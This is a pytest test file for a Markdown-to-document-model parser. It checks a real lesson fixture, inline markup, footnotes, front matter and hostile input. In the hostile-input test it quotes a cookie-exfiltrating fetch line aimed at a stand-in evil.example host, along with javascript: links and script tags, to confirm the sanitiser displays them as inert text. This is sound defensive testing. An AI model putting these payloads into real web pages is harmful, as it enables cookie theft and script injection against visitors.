"""Markdown paper sources (issues #10 and #15): ``papersite.parse.markdown_paper.parse_markdown_paper``.

Markdown is read by markdown-it-py; its tokens become the document model directly. The real paper
is the Programming Historian lesson in tests/fixtures/open/brousseau2022-gpt2-brexit (CC BY 4.0),
checked against the facts read off it by hand (facts.yml). Small texts below and in
tests/fixtures/markdown/ cover each construct and hostile input.
"""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from papersite.metadata import HeadingOverride, PaperMetadata
from papersite.model import Email, Emphasis, Inline, Link, NoteRef, Paper, Text
from papersite.parse.markdown_paper import parse_markdown_paper, severity
from papersite.rules import RULES

HERE = Path(__file__).resolve().parent
BROUSSEAU = HERE / "fixtures" / "open" / "brousseau2022-gpt2-brexit"
FIXTURES = HERE / "fixtures" / "markdown"

_WORD = re.compile(r"[^\W_]+")
_JOINING_TAGS = re.compile(r"</?(?:sub|sup|i|em|b|strong|span|abbr)\b[^<>]*>", re.IGNORECASE)


def words(text: str) -> set[str]:
    """Lower-cased words; emphasis and code marks are deleted first (``**G**enerative`` is one word)."""
    return set(_WORD.findall(re.sub(r"[*_`]", "", text).lower()))


def source_words(markdown: str) -> set[str]:
    """Words of a Markdown body outside markup syntax: entities decoded, tags taken out."""
    text = html.unescape(_JOINING_TAGS.sub("", markdown))
    return words(re.sub(r"<[^<>]*>", " ", re.sub("[\ue000-\ue005]", "", text)))


def read(text: str, metadata: PaperMetadata | None = None) -> Paper:
    return parse_markdown_paper(text, paper_id="t", path="t.md", metadata=metadata)


def marked(nodes: tuple[Inline, ...]) -> str:
    """Inline nodes as a string: «emphasis», [^marker] for a note reference."""
    out = []
    for node in nodes:
        if isinstance(node, Emphasis):
            out.append(f"«{node.text}»")
        elif isinstance(node, NoteRef):
            out.append(f"[^{node.marker}]")
        elif isinstance(node, Email):
            out.append(node.address)
        elif isinstance(node, Link):
            out.append(node.text)
        else:
            assert isinstance(node, Text), node
            out.append(node.text)
    return "".join(out)


def lines_of(paper: Paper) -> list[str]:
    """Headings and blocks in reading order; list items start with '- '."""
    out = []
    for section in paper.all_sections():
        if section.title:
            out.append(section.title)
        out.extend(("- " if b.list_item else "") + marked(b.inlines) for b in section.blocks)
    return out


def shown(paper: Paper) -> str:
    """Everything a reader can see: title, abstract, body, references, notes."""
    parts = [paper.front.title, *(p.text for p in paper.front.abstract), *lines_of(paper)]
    parts += [r.raw for r in paper.references] + [n.paragraph.text for n in paper.notes]
    parts += [paper.notes_title] if paper.notes else []
    return "\n".join(parts)


def rules(paper: Paper) -> list[str]:
    return [d.rule for d in paper.diagnostics if d.rule.startswith("markdown-")]


def body(text: str) -> str:
    """The single paragraph a short text makes, marked."""
    paragraphs = read(text).all_paragraphs()
    assert len(paragraphs) == 1, paragraphs
    return marked(paragraphs[0].inlines)


# --- the real paper -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def paper() -> tuple[str, Paper, dict]:  # type: ignore[type-arg]
    source = (BROUSSEAU / "paper.md").read_text(encoding="utf-8")
    facts = yaml.safe_load((BROUSSEAU / "facts.yml").read_text(encoding="utf-8"))
    return source, parse_markdown_paper(source, paper_id="brousseau", path="paper.md"), facts


def test_front_matter_is_read_into_the_front(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    front = facts["front_matter"]
    assert md.front.title == front["title"] == facts["title"]
    assert [a.name for a in md.front.authors] == front["authors"]
    assert dict(md.front.dates)["published"] == front["date"] and md.front.year == str(facts["year"])
    assert md.front.doi == front["doi"]  # the trailing space of the source line is gone
    assert md.front.abstract[0].text.startswith(front["abstract_starts"])
    assert md.front.abstract[0].span.line == 19


def test_headings_become_sections_with_levels_and_lines(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, facts = paper
    expected = [(text, level + 1) for level, text in facts["headings"] if text != "Endnotes"]  # '#' -> 2
    sections = md.all_sections()
    assert [(s.title, s.level) for s in sections] == expected
    source_lines = source.split("\n")
    for section in sections:
        assert source_lines[section.span.line - 1].lstrip("# ").rstrip() == section.title
    assert md.notes_title == "Endnotes"  # the heading over the definitions names the notes


def test_footnotes_are_notes_and_markers_note_refs(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    assert [n.marker for n in md.notes] == [str(k) for k in range(1, facts["references"]["notes_count"] + 1)]
    by_marker = {n.marker: n for n in md.notes}
    for note in facts["footnotes"]["notes"]:
        assert by_marker[note["marker"][2:-1]].paragraph.text.startswith(note["note_starts"].replace("*", ""))
    assert md.notes[0].paragraph.span.line == 386 and md.notes[-1].paragraph.span.line == 403
    text = "\n".join(lines_of(md))
    for citation in facts["citations"]:
        assert re.sub(r" ?\[\^(\d+)\]", r"[^\1]", citation["text"]) in text, citation["text"]
    paragraph = next(p for p in md.all_paragraphs() if "outside of language" in p.text)
    assert NoteRef("4") in paragraph.inlines and "something outside of language." in paragraph.text
    assert "[^" not in "".join(p.text for p in md.all_paragraphs())


def test_template_tags_and_html_are_not_shown_as_markup(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, facts = paper
    text = shown(md)
    for tag in facts["template_tags"]["tags"] + facts["raw_html"]["tags"]:
        assert tag not in text
    assert "{%" not in text and "<div" not in text and "</div>" not in text
    figures = [p.text for p in md.all_paragraphs() if p.text.startswith("[Figure: ")]
    assert len(figures) == 2
    for caption, figure, name in zip(facts["template_tags"]["figure_captions"], figures, (1, 2)):
        assert figure.startswith("[Figure: " + caption) and f"(interrogating-national-narrative-gpt-{name}.png)" in figure
    assert "emitted more CO2 than" in text and "&mdash;" not in text
    body_text = source.split("\n---\n", 1)[1]
    assert text.count("—") == body_text.count("—") + facts["raw_html"]["entities"]["&mdash;"]
    assert "narrative —as curated by popular media outlets meant for the average UK citizen to consume— by" in text
    alert = next(p.text for p in md.all_paragraphs() if p.text.startswith("Reminder:"))
    assert alert.endswith("here (/assets/interrogating-national-narrative-gpt/gpt-2-output.md).")
    assert rules(md) == ["markdown-template-removed"]  # {% include toc.html %}


def test_lists_quotes_and_further_readings(paper) -> None:  # type: ignore[no-untyped-def]
    _, md, facts = paper
    text = shown(md)
    for join in facts["line_joins"]:
        assert f"{join['before']} {join['after']}" in text
    for keep in facts["hyphenation"]["keep"]:
        assert keep["text"] in text
    readings = facts["references"]["further_readings"]
    section = next(s for s in md.all_sections() if s.title == readings["heading"].lstrip("# "))
    items = [b for b in section.blocks if b.list_item]
    assert len(items) == readings["count"]
    for item, entry in zip(items, readings["entries"]):
        assert item.text.startswith(entry["starts"][2:].replace("*", ""))
        assert any(isinstance(n, Emphasis) and n.text == "Dædalus" for n in item.inlines)  # no literal asterisks
    lines = lines_of(md)
    first = lines.index(next(line for line in lines if line.startswith("- 1) Ensure")))
    assert lines[first + 1].startswith("- 2) Perform some amount of cleaning")


def test_code_blocks_keep_their_words_and_lines(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, _ = paper
    texts = {p.text: p for p in md.all_paragraphs()}
    assert "[340 | 143.77] loss=0.83 avg=0.72" in texts  # the fence indented by two spaces
    code = texts["conda create --name prog_hist_gpt2"]  # no typographic dash in code
    assert source.split("\n")[code.span.line - 1].strip() == code.text
    assert any(t.startswith("ai.train(brexit_articles, num_steps=3000,") for t in texts)


def test_no_word_of_the_body_is_lost(paper) -> None:  # type: ignore[no-untyped-def]
    source, md, _ = paper
    body_text = source.split("\n---\n", 1)[1]
    syntax = {"div", "class", "alert", "warning", "info", "href", "sub", "include", "toc", "html", "filename",
              "alt", "caption", "mdash"}
    assert words(body_text) - words(shown(md)) <= syntax
    source_lines = source.split("\n")
    for paragraph in md.all_paragraphs():
        if paragraph.text.startswith("[Figure: "):
            continue
        first_word = _WORD.findall(paragraph.text)[0]
        assert first_word in " ".join(source_lines[paragraph.span.line - 1 : paragraph.span.end_line or paragraph.span.line])


# --- inline markup ----------------------------------------------------------------------------------

INLINE = [
    ("**strong** and __strong__", "strong and strong"),
    ("*em* and _em_ and ***both***", "«em» and «em» and «both»"),
    ("**G**enerative **P**re-trained", "Generative Pre-trained"),
    ("snake_case_name and a*b", "snake_case_name and a*b"),
    ("~~struck~~ out", "struck out"),
    ("a `code *span*` and `` a`b ``", "a code *span* and a`b"),
    ("unmatched `tick", "unmatched `tick"),
    ("[text](https://x.org/a)", "text (https://x.org/a)"),
    ("[https://x.org/a](https://x.org/a)", "https://x.org/a"),
    ("[paren](https://en.wikipedia.org/wiki/A_(b)) after", "paren (https://en.wikipedia.org/wiki/A_(b)) after"),
    ('[titled](<https://x.org/a b> "The title")', 'titled (https://x.org/a b "The title")'),
    ("[Smith [2000]](https://s.org)", "Smith [2000] (https://s.org)"),
    ("[![logo](l.png)](https://x.org)", "[Image: logo (l.png)] (https://x.org)"),
    ("see [sic] and [1] here", "see [sic] and [1] here"),
    ("<https://x.org/a_b_c> and <me@example.org>", "https://x.org/a_b_c and me@example.org"),
    ("bare https://x.org/a_b_c_d. end", "bare https://x.org/a_b_c_d. end"),
    ("![A bar chart](fig.png)", "[Image: A bar chart (fig.png)]"),
    ("caf&eacute; &amp; &mdash; &#233; &#x263A; &bogus;", "café & — é ☺ &bogus;"),
    ("&lt;b&gt;bold?&lt;/b&gt;", "<b>bold?</b>"),
    ("&ast;not em&ast;", "*not em*"),
    ("CO<sub>2</sub> and x<sup>2</sup>", "CO2 and x2"),
    ("<em>emphasis</em> and <i>italic</i>s and <b>bold</b>", "«emphasis» and «italic»s and bold"),
    ('<span class="x" style="color:red">span</span> text', "span text"),
    ('<a href="https://x.org/p?a=1&amp;b=2">site</a>', "site (https://x.org/p?a=1&b=2)"),
    ('<abbr title="World Health Organization">WHO</abbr>', "WHO (World Health Organization)"),
    ('<img src="p.png" alt="a photo">', "[Image: a photo (p.png)]"),
    ("List<T> and <username> stay", "List<T> and <username> stay"),
    ("a<br>b<br/>c", "a b c"),
    ("\\$5, \\*not em\\*, \\_x\\_, \\[x\\]", "$5, *not em*, _x_, [x]"),
    ("a \\: b \\, c \\@ d", "a : b , c @ d"),
    ("hard\\\nbreak and soft\nbreak", "hard break and soft break"),
    ("[home]({{ site.baseurl }}/en/lessons/x)", "home (/en/lessons/x)"),
    ("x {% raw %}{{ y }}{% endraw %} z", "x {{ y }} z"),
    ("<!-- hidden -->visible", "visible"),
    ("write to ann@uni.edu.", "write to ann@uni.edu."),
]


@pytest.mark.parametrize(("markdown", "expected"), INLINE, ids=[m[:30] for m, _ in INLINE])
def test_inline_markup_becomes_model_nodes(markdown: str, expected: str) -> None:
    assert body(markdown) == expected


def test_emails_are_email_nodes_and_emphasis_is_emphasis() -> None:
    nodes = read("Mail *ann@uni.edu* or bo@uni.edu now.").all_paragraphs()[0].inlines
    assert Email("bo@uni.edu") in nodes and Emphasis("ann@uni.edu") in nodes


def test_web_addresses_and_dois_are_links_relative_targets_text() -> None:
    nodes = read(
        "[words](<https://x.org/a b>), <https://x.org/q>, see https://x.org/r_s. Then [https://x.org/t](https://x.org/t), "
        "[site](/en/x), doi:10.1000/xyz-1. and https://doi.org/10.1/B."
    ).all_paragraphs()[0].inlines
    assert [n for n in nodes if isinstance(n, Link)] == [
        Link("https://x.org/a b", "https://x.org/a%20b"), Link("https://x.org/q", "https://x.org/q"),
        Link("https://x.org/r_s", "https://x.org/r_s"), Link("https://x.org/t", "https://x.org/t"),
        Link("doi:10.1000/xyz-1", "https://doi.org/10.1000/xyz-1"), Link("https://doi.org/10.1/B", "https://doi.org/10.1/B"),
    ]
    assert marked(nodes).startswith("words (https://x.org/a b), https://x.org/q, see https://x.org/r_s. Then https://x.org/t, site (/en/x)")
    unsafe = read("[run](javascript:alert(1)) and <a href=\"data:x\">d</a>")
    assert not any(isinstance(n, Link) for n in unsafe.all_paragraphs()[0].inlines)
    assert rules(unsafe) == ["markdown-unsafe-url"] * 2


def test_links_are_rendered_as_anchors_and_text_stays_escaped() -> None:
    from papersite.render.inline import render_inlines

    nodes = read('See <https://x.org/?a=1&b="2"> and [t](javascript:alert(1)) <b onclick="x">b</b>.').all_paragraphs()[0].inlines
    rendered = render_inlines(nodes)
    assert '<a class="source-link" href="https://x.org/?a=1&amp;b=%222%22">https://x.org/?a=1&amp;b="2"</a>' in rendered
    assert "javascript" in rendered and 'href="javascript' not in rendered and "<b" not in rendered


DASHES = [
    ("pages 11--29 and 1990--2000", "pages 11–29 and 1990–2000"),
    ("a pause -- like this --- or this---here", "a pause – like this — or this—here"),
    ("run `cmd --flag` or --verbose and --- alone", "run cmd --flag or --verbose and — alone"),
    ("an arrow --> and a rule ---- stay", "an arrow --> and a rule ---- stay"),
    ("<https://x.org/a--b> and https://x.org/c---d", "https://x.org/a--b and https://x.org/c---d"),
    ("[a--b](https://x.org/a--b)", "a–b (https://x.org/a--b)"),
]


@pytest.mark.parametrize(("markdown", "expected"), DASHES, ids=[m[:30] for m, _ in DASHES])
def test_typographic_dashes_where_the_source_means_dashes(markdown: str, expected: str) -> None:
    assert body(markdown) == expected


def test_dashes_are_not_made_in_code_blocks_or_table_rules() -> None:
    md = read("```\nx -- y --- z\n```\n\n| a--b | c |\n|---|---|\n| 1--2 | d |\n")
    assert [p.text for p in md.all_paragraphs()] == ["x -- y --- z", "a–b | c", "1–2 | d"]


def test_reference_links_use_their_definitions() -> None:
    md = read("See [the work][w], [W] and [other][none].\n\n[w]: https://w.org/x \"Work\"\n[spare]: https://s.org\n")
    assert body("See [the work][w], [W] and [other][none].\n\n[w]: https://w.org/x \"Work\"\n") == (
        'See the work (https://w.org/x "Work"), W (https://w.org/x "Work") and [other][none].'
    )
    assert rules(md) == ["markdown-link-definition-unused"]
    assert "https://s.org" in next(d for d in md.diagnostics if d.rule == "markdown-link-definition-unused").message


# --- blocks --------------------------------------------------------------------------------------------


def test_lists_become_list_items() -> None:
    md = read("Intro\n\n- a\n- b\n  continued\n  - nested\n    - deeper\n* star\n+ plus\n\n1. one\n2) two\n10. ten\n")
    assert lines_of(md) == ["Intro", "- a", "- b continued", "- nested", "- deeper", "- star", "- plus", "- 1. one",
                            "- 2) two", "- 10. ten"]
    assert [p.span.line for p in md.all_paragraphs()] == [1, 3, 4, 6, 7, 8, 9, 11, 12, 13]


def test_list_item_paragraphs_code_and_lazy_lines() -> None:
    md = read("1. Step one\nlazy line\n\n   second paragraph\n\n   ```\n   code here\n   ```\n2. Step two\n")
    assert lines_of(md) == ["- 1. Step one lazy line", "second paragraph", "code here", "- 2. Step two"]
    assert md.all_paragraphs()[2].span.line == 7


def test_ordered_lists_only_interrupt_a_paragraph_from_one() -> None:
    assert lines_of(read("The year\n2000. was good")) == ["The year 2000. was good"]
    assert lines_of(read("Steps:\n1. one")) == ["Steps:", "- 1. one"]


def test_block_quotes_nested_and_lazy() -> None:
    md = read("> First quote\ncontinued lazily.\n>\n> > Nested.\n\n> Second quote.\n\n> # Heading in quote\n")
    assert lines_of(md) == ["First quote continued lazily.", "Nested.", "Second quote.", "Heading in quote"]
    assert [s.title for s in md.all_sections()] == [""]


def test_tables_one_paragraph_per_row_and_no_cell_lost() -> None:
    md = read("| Name | Value |\n|:-----|------:|\n| alpha | 1 |\n| beta \\| gamma | `x` |\n| a | `1 | 2` |\nafter\n\nNext.")
    assert lines_of(md) == ["Name | Value", "alpha | 1", "beta | gamma | x", "a | `1 | 2`", "after", "Next."]
    assert [p.span.line for p in md.all_paragraphs()] == [1, 3, 4, 5, 6, 8]


def test_definition_lists_keep_terms_and_definitions() -> None:
    md = read("Term\n: The definition.\n\nOther term\n:   Second *def*.\n")
    assert lines_of(md) == ["Term", "The definition.", "Other term", "Second «def»."]
    assert [p.span.line for p in md.all_paragraphs()] == [1, 2, 4, 5]


def test_code_blocks_are_text_never_markup() -> None:
    md = read("Text:\n\n```python\ndef f(*args):\n\n    - x ** 2  # \\d\n```\n\n    indented *code*\n    - item\n\n~~~\ntilde\n~~~\n")
    assert [p.text for p in md.all_paragraphs()] == ["Text:", "def f(*args):", "- x ** 2  # \\d", "indented *code* - item",
                                                    "tilde"]
    assert all(len(p.inlines) == 1 and isinstance(p.inlines[0], Text) for p in md.all_paragraphs())
    assert [(p.span.line, p.span.end_line) for p in md.all_paragraphs()] == [(1, 1), (4, 4), (6, 6), (9, 10), (13, 13)]


def test_unclosed_fence_runs_to_the_end() -> None:
    md = read("Before.\n\n```\ncode\n[^1]: not a note\n# not a heading")
    assert rules(md) == ["markdown-fence-unclosed"] and md.notes == ()
    assert lines_of(md) == ["Before.", "code [^1]: not a note # not a heading"]


def test_heading_levels_follow_the_shallowest_heading() -> None:
    def levels(text: str) -> list[tuple[str, int]]:
        return [(s.title, s.level) for s in read(text).all_sections() if s.title]

    assert levels("## A\n\ntext\n\n### B\n\n#### C") == [("A", 2), ("B", 3), ("C", 4)]
    assert levels("# A\n\n# B\n\n## C\n\n###### D") == [("A", 2), ("B", 2), ("C", 3), ("D", 6)]
    assert levels("Intro.\n\nA\n===\n\nB\n---\n\ntext") == [("A", 2), ("B", 3)]
    assert levels("## Closed ##\n\n##NoSpace") == [("Closed", 2)]
    nested = read("## A\n\n### B\n\ntext\n\n## C")
    assert [s.title for s in nested.sections] == ["A", "C"] and nested.sections[0].subsections[0].title == "B"


def test_a_lone_first_level_one_heading_is_the_title() -> None:
    md = read("# The *Title*\n\nBy me.\n\n## Intro\n\nText.\n\n## End\n")
    assert md.front.title == "The Title"
    assert [s.title for s in md.all_sections()] == ["", "Intro", "End"]
    assert rules(md) == ["markdown-title-heading"]
    repeated = read("---\ntitle: The Title\n---\n# The Title\n\n## Intro\n")
    assert repeated.front.title == "The Title" and [s.title for s in repeated.all_sections()] == ["Intro"]


def test_html_blocks_are_reduced_to_text() -> None:
    md = read(
        '<div class="alert">\nBe <b>careful</b> &amp; <a href="/x">read this</a>.\n</div>\n\n'
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n\n"
        "<table><tr><td>a</td><td>b</td></tr></table>\n\n"
        "<pre>\n  x &lt; 1\n</pre>\n\n"
        "<!-- an editor's note\nover lines -->\n\nAfter."
    )
    assert lines_of(md) == ["Be careful & read this (/x).", "- one", "- two", "a | b |", "x < 1", "After."]
    assert rules(md) == ["markdown-html-comment"]
    assert "an editor's note over lines" in next(d.message for d in md.diagnostics if d.rule == "markdown-html-comment")


def test_scripts_are_shown_as_text_and_reported() -> None:
    md = read("<script>\nalert('x');\n</script>\n\nInline <script>run()</script> and <style>p{}</style>.")
    assert lines_of(md) == ["alert('x');", "Inline run() and p{}."]
    assert rules(md).count("markdown-html-script") == 3


def test_template_tags_make_figures_or_are_dropped_and_named() -> None:
    md = read(
        "{% include toc.html %}\n\n"
        '{% include figure.html filename="a.png" alt="Bars" caption="Figure 1: *Counts*" %}\n'
        '{{< figure src="b.png" title="Map" >}}\n'
        '{% include figure.html\n   filename="c.png"\n   caption="Over lines" %}\n\n'
        '{% include alert.html text="Not shown" %}\n'
        "{{ site.title }}\n\nText {{ page.author }} here.\n"
    )
    assert lines_of(md) == [
        "[Figure: Figure 1: «Counts» (a.png) Description: Bars]", "[Figure: Map (b.png)]", "[Figure: Over lines (c.png)]",
        "Text here.",
    ]
    assert [p.span.line for p in md.all_paragraphs()] == [3, 4, 5, 12]
    assert rules(md) == ["markdown-template-removed"] + ["markdown-template-tag"] * 3
    dropped = [d for d in md.diagnostics if d.rule == "markdown-template-tag"]
    assert [d.span.line for d in dropped] == [9, 10, 12] and "alert.html" in dropped[0].message  # type: ignore[union-attr]
    assert severity("markdown-template-tag") == "warning"


def test_markup_lines_are_removed_and_named() -> None:
    md = read("Para.\n{: .note}\n\n::: warning\nInside.\n:::\n\n[TOC]\n")
    assert lines_of(md) == ["Para.", "Inside."]
    assert [d.message for d in md.diagnostics if d.rule.startswith("markdown")] == [
        "markup line removed: {: .note}", "markup line removed: ::: warning", "markup line removed: :::",
        "markup line removed: [TOC]",
    ]


def test_reference_sections_one_entry_per_item_or_line_without_markup() -> None:
    md = read(
        "## Intro\n\nText.\n\n## Bibliography\n\n1. Smith, J. 2000. *A*.\n2. Doe, J. 2001. **B**. https://doi.org/10.1/b\n\n"
        "### Archives\n\n- Archive X.\n\n## Appendix\n\nOne\ntwo.\n"
    )
    assert [(r.number, r.raw, r.span.line) for r in md.references] == [
        ("1", "[1] Smith, J. 2000. A.", 7), ("2", "[2] Doe, J. 2001. B. https://doi.org/10.1/b", 8),
    ]
    assert "- Archive X." in lines_of(md) and lines_of(md)[-1] == "One two."  # the Appendix is prose again
    loose = read("Text.\n\n## References\n\nLoose, A. 1999. *C*.\nLoose, B. 2003. D.\n")
    assert [(r.raw, r.span.line) for r in loose.references] == [("Loose, A. 1999. C.", 5), ("Loose, B. 2003. D.", 6)]


def test_editor_heading_overrides_apply_and_unused_ones_are_reported() -> None:
    metadata = PaperMetadata(headings=(HeadingOverride("Not a heading", heading=False), HeadingOverride("Missing"),
                                       HeadingOverride("Methods", level=2)))
    md = read("## Intro\n\nText.\n\n## Not a heading\n\nMethods\n\nMore.", metadata)
    assert [(s.title, s.level) for s in md.all_sections()] == [("Intro", 2), ("Methods", 3)]
    assert "Not a heading" in lines_of(md)
    assert [d.rule for d in md.diagnostics].count("heading-override-unused") == 1


# --- footnotes ---------------------------------------------------------------------------------------


def test_footnote_definitions_with_continuations() -> None:
    md = read(
        "Text[^a] and [^b], again[^a].\n\n"
        "[^a]: First line\n  lazily continued.\n\n    Second paragraph.\n\n"
        "Body after the notes.\n\n"
        "[^b]:\n    Starts on the next line with a [link](https://n.org).\n"
    )
    assert lines_of(md) == ["Text[^a] and[^b], again[^a].", "Body after the notes."]
    assert [(n.marker, n.paragraph.text, n.paragraph.span.line, n.paragraph.id) for n in md.notes] == [
        ("a", "First line lazily continued. Second paragraph.", 3, "fn-a"),
        ("b", "Starts on the next line with a link (https://n.org).", 10, "fn-b"),
    ]
    assert rules(md) == []


def test_footnote_problems_are_reported_and_nothing_is_lost() -> None:
    md = read(
        "See[^missing] and[^x] and[^a-very-long-note-id] and `[^x]` in code.\n\n"
        "[^x]: The note.\n[^unused]: Never cited.\n[^x]: Again.\n[^a-very-long-note-id]: Long.\n[^1]: One.\n[^e]:\n"
    )
    assert lines_of(md)[0] == "See[^missing] and[^x] and[^2] and [^x] in code."
    assert "[^x]: Again." in lines_of(md)
    assert [(n.marker, n.paragraph.text) for n in md.notes] == [
        ("x", "The note."), ("2", "Long."), ("unused", "Never cited."), ("1", "One."), ("e", ""),
    ]
    assert sorted(rules(md)) == sorted([
        "markdown-note-undefined", "markdown-note-unused", "markdown-note-duplicate", "markdown-note-marker",
        "markdown-note-unused", "markdown-note-unused", "markdown-note-empty",
    ])
    line = {d.rule: d.span.line for d in md.diagnostics if d.span}
    assert line["markdown-note-undefined"] == 1 and line["markdown-note-duplicate"] == 5


def test_notes_heading_is_the_section_left_empty() -> None:
    with_heading = read("## Body\n\nText[^1].\n\n## Notes\n\n[^1]: A note.\n")
    assert with_heading.notes_title == "Notes" and [s.title for s in with_heading.all_sections()] == ["Body"]
    assert read("## Body\n\nText[^1].\n\n[^1]: A note.\n").notes_title == "Notes"


# --- front matter ------------------------------------------------------------------------------------


def test_front_matter_variants() -> None:
    md = read(
        "---\ntitle: Main\nsubtitle: And More\nauthor:\n  - name: Ann Lee\n    affiliation: [Uni A, {name: Lab B}]\n"
        "    orcid: 0000-0001\n  - Chen, Bo\n  - {given: Carla, family: de la Cruz}\n  - Smith, John, Jr.\n"
        "date: 2021-05-04\nyear: 2020\njournal: J. Ex.\nvolume: 7\nnumber: 2\npage: 11-29\nDOI: doi:10.1/X\n"
        "keywords: a; b c ; d\nlang: en\nshort-title: Main\n---\nBody.\n"
    )
    front = md.front
    assert front.title == "Main: And More"
    assert [a.name for a in front.authors] == ["Ann Lee", "Bo Chen", "Carla de la Cruz", "John Smith Jr."]
    assert front.family_names == ("Lee", "Chen", "de la Cruz", "Smith")
    assert [a.text for a in front.affiliations] == ["Uni A", "Lab B"] and front.authors[0].markers == ("1", "2")
    assert (front.year, dict(front.dates)["published"], front.venue, front.volume, front.issue, front.pages) == (
        "2020", "2021-05-04", "J. Ex.", "7", "2", "11-29"
    )
    assert (front.doi, front.keywords, front.short_title) == ("10.1/X", ("a", "b c", "d"), "Main")
    assert rules(md) == [] and lines_of(md) == ["Body."]


@pytest.mark.parametrize(
    ("value", "names"),
    [
        ("Lee, Ann and Chen, Bo", ["Ann Lee", "Bo Chen"]),
        ("Ann Lee, Bo Chen", ["Ann Lee", "Bo Chen"]),
        ("Agüera y Arcas, Blaise", ["Blaise Agüera y Arcas"]),
        ("Ann Lee; Bo Chen & Cy Dee", ["Ann Lee", "Bo Chen", "Cy Dee"]),
    ],
)
def test_author_strings(value: str, names: list[str]) -> None:
    assert [a.name for a in read(f"---\nauthors: {value}\n---\nX").front.authors] == names


def test_editor_metadata_overrides_the_front_matter() -> None:
    md = read("---\ntitle: Own\nyear: 2001\n---\nX", PaperMetadata(title="Editor's", venue="V"))
    assert (md.front.title, md.front.year, md.front.venue) == ("Editor's", "2001", "V")


def test_broken_yaml_is_reported_and_kept_as_text() -> None:
    md = read("---\ntitle: [unclosed\nauthors: x\n---\n\nBody text.\n")
    assert md.front.title == "" and md.front.authors == ()
    assert [(d.rule, d.span.line) for d in md.diagnostics if d.rule.startswith("markdown")] == [  # type: ignore[union-attr]
        ("markdown-front-matter-invalid", 3)
    ]
    assert lines_of(md) == ["title: [unclosed authors: x", "Body text."]


def test_odd_front_matter() -> None:
    unclosed = read("---\ntitle: Fine\n\nBody words.\n")
    assert rules(unclosed) == ["markdown-front-matter-unclosed"] and "Body words." in lines_of(unclosed)
    listed = read("---\n- a\n- b\n---\nText")
    assert rules(listed) == ["markdown-front-matter-not-mapping"] and lines_of(listed) == ["- a - b", "Text"]
    bad_date = read("---\ntitle: T\ndate: 2022-13-45\n---\nX")
    assert dict(bad_date.front.dates)["published"] == "2022-13-45" and rules(bad_date) == []
    wrong_type = read("---\ntitle: [a, b]\nkeywords: {a: 1}\nabstract: 5\n---\nX")
    assert rules(wrong_type) == ["markdown-front-matter-value"] * 2
    assert wrong_type.front.abstract[0].text == "5" and wrong_type.front.title == ""
    assert rules(read("---\na: &a [*a]\n---\nX")) == ["markdown-front-matter-invalid"]
    assert rules(read("---\na: " + "[" * 3000 + "\n---\nX")) == ["markdown-front-matter-invalid"]
    empty = read("---\n---\nText")
    assert lines_of(empty) == ["Text"] and rules(empty) == []


def test_a_later_thematic_break_is_not_front_matter() -> None:
    md = read("Intro para.\n\n---\ntitle: not metadata\n---\n\nAfter break.\n")
    assert md.front.title == ""
    assert "title: not metadata" in shown(md) and "After break." in shown(md)


def test_empty_and_blank_files() -> None:
    for text in ("", "\n\n", "   \n\t\n", "\ufeff", "---\n---\n"):
        md = read(text)
        assert (md.sections, md.notes, md.references) == ((), (), ())
        assert "paper-empty" in [d.rule for d in md.diagnostics]


def test_line_ends_bom_and_private_use_characters() -> None:
    md = read("\ufeffLine one\r\nline two\r\n\r\n# H\rText\ue000x\ue001")
    assert lines_of(md) == ["Line one line two", "H", "Textx"]
    assert [p.span.line for p in md.all_paragraphs()] == [1, 5] and rules(md) == ["markdown-private-use"]


# --- hostile input -----------------------------------------------------------------------------------


def test_hostile_fixture() -> None:
    source = (FIXTURES / "hostile.md").read_text(encoding="utf-8")
    md = read(source)
    text = shown(md)
    assert "<script" not in text and "<iframe" not in text and "onerror" not in text and "onclick" not in text
    assert 'fetch("https://evil.example/steal?c=" + document.cookie);' in text  # shown, never run
    assert 'document.write("inline")' in text and "[Embedded: https://evil.example]" in text
    assert "here (javascript:alert(1))" in text and rules(md).count("markdown-unsafe-url") == 2
    assert "and these words must stay" in text and "markdown-html-unclosed" in rules(md)
    assert "abcde" in text and "markdown-private-use" in rules(md)
    assert "deep quote words" in text
    assert md.notes[0].paragraph.text == "A note with alert(5) inside." and "[Figure: alert(4) caption words (x.png)]" in text
    assert "markdown-fence-unclosed" in rules(md) and len(md.notes) == 1
    assert source_words(source.split("\n---\n", 1)[1]) - words(text) <= {"include", "figure", "html", "filename", "caption"}


def test_kitchen_sink_keeps_every_word() -> None:
    source = (FIXTURES / "kitchen-sink.md").read_text(encoding="utf-8")
    md = read(source)
    body_text = source.split("\n---\n", 1)[1]
    pool = words(" ".join([shown(md), *(d.message for d in md.diagnostics)]))
    markup = {"include", "figure", "html", "filename", "alt", "caption", "site", "baseurl", "python"}
    assert source_words(body_text) - pool <= markup
    assert all(d.rule in RULES for d in md.diagnostics if d.rule.startswith("markdown"))
    assert severity("markdown-front-matter-invalid") == "error" and severity("anything-else") == "warning"
    assert "*" not in "".join(r.raw for r in md.references)  # emphasis in entries is not shown as asterisks


def test_deterministic() -> None:
    source = (FIXTURES / "kitchen-sink.md").read_text(encoding="utf-8")
    assert read(source) == read(source)


PATHOLOGICAL = {
    "brackets": "[" * 100_000,
    "bracket words": "[a " * 35_000,
    "strong": "**a " * 25_000,
    "underscores": "_a " * 35_000,
    "ticks": "`a ``b " * 15_000,
    "comments": "<!-- " * 20_000,
    "tags": "a <span " * 15_000,
    "links": "[a](" * 25_000,
    "note refs": "[^1] " * 25_000 + "\n\n[^1]: x",
    "template openers": "{% " * 30_000,
    "template lines": "{%\n" * 15_000,
    "many template tags": " ".join("{%% a%d %%}" % i for i in range(5_000)) + " x",
    "nested quotes": "> " * 5_000 + "x\n" + "> y\n" * 5_000,
    "nested lists": "".join("  " * (i % 40) + "- item\n" for i in range(10_000)),
    "table": "a|b\n|-|-|\n" + "c|d\n" * 10_000,
    "fences": "```\n" * 20_000,
    "html list": "<ul>\n" + "<li>x</li>\n" * 15_000,
    "scripts": "<div>\n" + "<script>\n" * 10_000,
    "entities": "&amp " * 25_000,
    "dashes": "a -- b --- " * 20_000,
}


